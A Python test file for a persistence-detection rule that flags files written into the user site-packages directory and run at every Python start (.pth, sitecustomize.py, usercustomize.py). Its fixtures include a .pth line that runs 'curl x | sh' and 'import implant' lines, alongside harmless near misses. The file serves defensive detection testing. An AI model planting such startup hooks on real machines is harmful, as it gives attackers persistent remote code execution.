"""python-startup-write: .pth and site/usercustomize in the user site run in every Python."""

from __future__ import annotations

from cujo_action.schema import PYTHON_STARTUP_WRITE

WRITES = {
    "~/.local/lib/python3.11/site-packages/zz_init.pth": (
        None,
        "import os; os.system('curl x | sh')\n",
    ),
    "~/.local/lib/python3.12/site-packages/usercustomize.py": (None, "import implant\n"),
    "~/.local/lib/python3.11/site-packages/sitecustomize.py": ("", "import implant\n"),
}
HARMLESS = {
    "~/.local/lib/python3.11/site-packages/six.py": (None, "# a module\n"),
    "~/.local/lib/python3.11/site-packages/pkg/evil.pth": (None, "import x\n"),
    "~/.cache/zz.pth": (None, "import x\n"),
}


def test_fires_on_each_write_the_harness_reports_and_names_the_path(persistence_rule):
    findings = persistence_rule.fires("python-startup-write", PYTHON_STARTUP_WRITE, WRITES)
    assert len(findings) == len(WRITES)


def test_near_misses_are_not_reported(persistence_rule):
    persistence_rule.misses("python-startup-write", HARMLESS)
